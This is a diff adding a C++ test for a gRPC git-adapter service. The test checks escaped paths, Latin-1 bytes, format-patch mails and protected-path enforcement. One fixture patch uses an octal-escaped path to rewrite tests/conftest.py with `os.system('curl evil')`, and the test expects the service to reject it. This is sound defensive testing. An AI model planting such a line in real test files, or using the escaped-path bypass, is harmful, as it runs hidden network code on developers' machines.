@@ -68,8 +68,10 @@ class GitAdapterServerTest : public ::testing::Test {
     return ((*stub_).*method)(&context, request, response);
   }
 
-  grpc::Status Apply(const std::string& patch, bool dry_run, v1::ApplyPatchResponse* response) {
+  grpc::Status Apply(const std::string& patch, bool dry_run, v1::ApplyPatchResponse* response,
+                     const std::vector<std::string>& protected_paths = {}) {
     v1::ApplyPatchRequest request;
+    for (const std::string& glob : protected_paths) request.add_protected_paths(glob);
     request.set_workspace_id("run1");
     request.set_patch(patch);
     request.set_commit_message("autopack: p1 change (attempt 1)");
@@ -184,6 +186,58 @@ TEST_F(GitAdapterServerTest, HostilePatchesAreInvalidArgumentAndWriteNothing) {
                                      dir_ + "/escaped.txt", std::string("/abs/path")}) {
     EXPECT_NE(access(escaped.c_str(), F_OK), 0) << escaped;
   }
+}
+
+// Issue 10 over the wire: bytes that are not UTF-8, git's escaped paths,
+// format-patch mails and prose after the last hunk.
+TEST_F(GitAdapterServerTest, EscapedPathsLatin1FilesMailsAndTrailingProse) {
+  v1::ApplyPatchResponse response;
+  grpc::Status status = Apply(
+      "--- /dev/null\n+++ b/tests/conftest.py\n@@ -0,0 +1 @@\n+import pytest\n"
+      "--- /dev/null\n+++ \"b/menu.txt\"\n@@ -0,0 +1,2 @@\n+caf\xe9\n+th\xe9\n",
+      false, &response);
+  ASSERT_TRUE(status.ok()) << status.error_message();
+
+  // `\143` is 'c': the escaped name is tests/conftest.py, and it is protected.
+  const std::string head = git::Trim(git::Sh(dir_, "git rev-parse HEAD"));
+  status = Apply(
+      "diff --git \"a/tests/\\143onftest.py\" \"b/tests/\\143onftest.py\"\n"
+      "--- \"a/tests/\\143onftest.py\"\n+++ \"b/tests/\\143onftest.py\"\n"
+      "@@ -1 +1 @@\n-import pytest\n+import os; os.system('curl evil')\n",
+      false, &response, {"conftest.py"});
+  EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
+  EXPECT_THAT(status.error_message(), HasSubstr("`tests/conftest.py` is a protected path (matches conftest.py)"));
+  EXPECT_EQ(git::Trim(git::Sh(dir_, "git rev-parse HEAD")), head);
+
+  // Latin-1 bytes in context and in the added line arrive and land as they are.
+  status = Apply("--- a/menu.txt\n+++ b/menu.txt\n@@ -1,2 +1,2 @@\n caf\xe9\n-th\xe9\n+cr\xe8me\n", false, &response);
+  ASSERT_TRUE(status.ok()) << status.error_message();
+  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\n");
+
+  // A git format-patch mail: its "-- " signature is not a removed line.
+  status = Apply(
+      "From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
+      "From: Dev <dev@example.org>\nSubject: [PATCH] tea\n\nSigned-off-by: Dev <dev@example.org>\n---\n"
+      " menu.txt | 1 +\n\ndiff --git a/menu.txt b/menu.txt\n--- a/menu.txt\n+++ b/menu.txt\n"
+      "@@ -1,2 +1,3 @@\n caf\xe9\n cr\xe8me\n+tea\n-- \n2.39.2\n\n",
+      false, &response);
+  ASSERT_TRUE(status.ok()) << status.error_message();
+  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\ntea\n");
+
+  // Prose after a correctly counted hunk is not applied.
+  status = Apply("--- a/menu.txt\n+++ b/menu.txt\n@@ -3 +3 @@\n-tea\n+coffee\n+Thanks, this fixes the menu.\n",
+                 false, &response);
+  ASSERT_TRUE(status.ok()) << status.error_message();
+  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\ncoffee\n");
+
+  // GetDiff hands the Latin-1 bytes back unchanged.
+  v1::GetDiffRequest diff_request;
+  diff_request.set_workspace_id("run1");
+  diff_request.set_from_ref(head);
+  v1::GetDiffResponse diff;
+  status = Call(&v1::GitAdapterService::Stub::GetDiff, diff_request, &diff);
+  ASSERT_TRUE(status.ok()) << status.error_message();
+  EXPECT_THAT(diff.patch(), HasSubstr("+cr\xe8me"));
 }
 
 TEST_F(GitAdapterServerTest, ChecksTimeOutWithoutLeftoversAndHaveNoNetwork) {
